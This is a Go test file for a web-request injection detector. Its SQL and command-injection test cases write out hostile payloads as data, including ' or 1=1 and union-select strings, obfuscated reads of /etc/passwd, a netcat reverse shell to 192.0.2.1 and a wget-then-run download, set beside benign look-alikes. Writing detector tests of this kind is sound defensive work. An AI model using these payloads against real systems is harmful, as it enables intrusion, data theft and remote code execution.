package injection

import (
	"strings"
	"testing"

	"github.com/vedette-cti/vedette"
)

// find returns the rules that a request matches.
func find(e vedette.Event) string {
	var got []string
	e.Category = vedette.CategoryWeb
	detector{}.Inspect(&e, func(d *vedette.Detection) { got = append(got, d.Rule) })
	return strings.Join(got, " ")
}

func TestSQL(t *testing.T) {
	f := func(value string, want bool) {
		t.Helper()
		var buf []token
		if got := sqlInjection(value, &buf); got != want {
			t.Errorf("%q: %t, want %t", value, got, want)
		}
	}
	// The way out of a literal decides, and what follows must parse.
	f("' or 1=1-- -", true)
	f("' or '1'='1", true)
	f(`24" or 27" monitor?`, false)
	f("the boys' and girls' room", false)
	f(`"black" or "white"`, false)
	f("rock 'n' roll and blues", false)
	f("o'brien", false)
	f("o'neil -- the story", false)
	f("x' and email is null; --", true)
	f("admin'--", true)
	f("1' or 1=1 limit 1#", true)
	f("'-sleep(3)-'", true)
	f("') or ('x'='x", true)
	// Where a number is expected, only constants, calls and queries say something.
	f("1 or 1=1", true)
	f("1 or 2 bedrooms", false)
	f("1 and 2 samuel", false)
	f("x=1 and y=2", false)
	f("price >= 5 and price <= 9", false)
	f("1) or (1=1", true)
	f("5 and sleep(5)", true)
	f("1 order by 12", true)
	f("order by 5 pm", false)
	f("1 group by age and gender", false)
	// Queries have columns, prose has words.
	f("1 union select null,null--", true)
	f("student union select board", false)
	f("union select committee report 1998", false)
	f("select the best option from the list", false)
	f("(select password from users limit 1)", true)
	f("what does select * from mean", false)
	f("1;drop table orders", true)
	f("apples; drop by later", false)
	f("drop table lamp with shade", false)
	f("insert into the slot until it clicks", false)
	f("1;insert into t(a) values(1)", true)
	f("1;waitfor delay '0:0:5'--", true)
	f("(case when 1=2 then 1 else null end)", true)
	f("-1 /*!50000union*/ /*!50000select*/ 1,2", true)
	f("-1 union -- x\nselect 1,2", true)
	f("1 or json_extract('{\"a\":1}','$.a')=1", true)
	f("", false)
	f("'", false)
	f("((((((((((((((((((((((((1", false)
}

func TestCommand(t *testing.T) {
	f := func(value string, want bool) {
		t.Helper()
		var words []byte
		if got := commandInjection(value, &words); got != want {
			t.Errorf("%q: %t, want %t", value, got, want)
		}
	}
	f("127.0.0.1;id", true)
	f("127.0.0.1\nwhoami", true)
	f("x| nc 192.0.2.1 4444 -e /bin/sh", true)
	f(";c'a't /etc/passwd", true)
	f(`;c\at /e\tc/passwd`, true)
	f(";wh``oami", true)
	f(";{cat,/etc/passwd}", true)
	f("/???/c?t /???/p??s??", true)
	f(";cat${ifs}/etc/passwd", true)
	f("$(id)", true)
	f("`id`", true)
	f("& who^ami", true)
	f("ping.exe -n 31 127.0.0.1", true)
	f("cd /tmp;wget http://192.0.2.1/a;sh a", true)
	f("cats; dogs; birds", false)
	f("true | false", false)
	f("time & date", false)
	f("use `ls` to list files", false)
	f("run `git status`", false)
	f("i'd like to", false)
	f("$(document).ready", false)
	f("tail -f log file", false)
	f("rm -rf meaning", false)
	f("news | sports | weather", false)
	f("a{1,2}b", false)
	f("/images/a?b/c", false)
	f("", false)
}

func TestInspect(t *testing.T) {
	f := func(e vedette.Event, want string) {
		t.Helper()
		if got := find(e); got != want {
			t.Errorf("%s %q %q: %q, want %q", e.URL, e.UserAgent, e.Referrer, got, want)
		}
	}
	f(vedette.Event{URL: "/item?id=1%27%20or%20%271%27=%271"}, "sql")
	f(vedette.Event{URL: "/item?id=1%2527%2520or%25201=1--"}, "sql")
	f(vedette.Event{URL: "/item/1'or'1'='1"}, "sql")
	f(vedette.Event{URL: "/ping?host=a%0aid"}, "command")
	f(vedette.Event{URL: "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/a"}, "command")
	f(vedette.Event{URL: "/a?x=1'or'1'='1&y=;id"}, "sql command")
	f(vedette.Event{URL: "/", UserAgent: "x' or 1=1-- -"}, "sql")
	f(vedette.Event{URL: "/", UserAgent: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0; id)"}, "")
	f(vedette.Event{URL: "/", Referrer: "http://x.example/?q=%24(id)"}, "command")
	f(vedette.Event{URL: "/", Referrer: "https://www.google.com/search?q=union+select+sql"}, "")
	f(vedette.Event{URL: "/a?x=1'or'1'='1", Direction: vedette.DirectionOutbound}, "")
	f(vedette.Event{URL: ""}, "")
}

// quiet are requests that honest clients send; some look worse than others.
var quiet = []vedette.Event{
	{URL: "/articles/dynamic-dns-with-dhcp/?flav=rss20", UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", Referrer: "https://example.org/a?b=c"},
	{URL: "/search?q=rock+%27n%27+roll+and+%2790s", UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"},
	{URL: "/list?tags=a;b|c&sort=name", UserAgent: "curl/8.5.0", Referrer: "https://www.google.com/search?q=%22a+or+b%22"},
}

func TestQuietAllocatesNothing(t *testing.T) {
	for i := range quiet {
		e := quiet[i]
		e.Category = vedette.CategoryWeb
		none := func(*vedette.Detection) { t.Errorf("%s: found something", e.URL) }
		detector{}.Inspect(&e, none)
		if n := testing.AllocsPerRun(200, func() { detector{}.Inspect(&e, none) }); n >= 1 {
			t.Errorf("%s: %.1f allocations", e.URL, n)
		}
	}
}

// TestHostileValuesEnd makes sure that no value takes long.
func TestHostileValuesEnd(t *testing.T) {
	for _, piece := range []string{"(", "'", "a;", "case when ", "(select ", "/?*", "{a,", "$a;", "`", "x' or ", "1,", "a.", "/*", "--\n", `\`, "union select "} {
		find(vedette.Event{URL: "/?q=" + strings.Repeat(piece, maxValue)})
	}
}

func FuzzInspect(f *testing.F) {
	for _, s := range []string{"1' or '1'='1", ";c'a't${IFS}/etc/passwd", "%0aid`", "(case when", "$(", "{a,}", "union select"} {
		f.Add(s)
	}
	f.Fuzz(func(_ *testing.T, s string) {
		find(vedette.Event{URL: "/" + s + "?q=" + s, UserAgent: s, Referrer: s})
	})
}

func BenchmarkInspect(b *testing.B) {
	for i := range quiet {
		e := quiet[i]
		e.Category = vedette.CategoryWeb
		b.Run(strings.Trim(e.URL[:6], "/?"), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				detector{}.Inspect(&e, func(*vedette.Detection) {})
			}
		})
	}
}
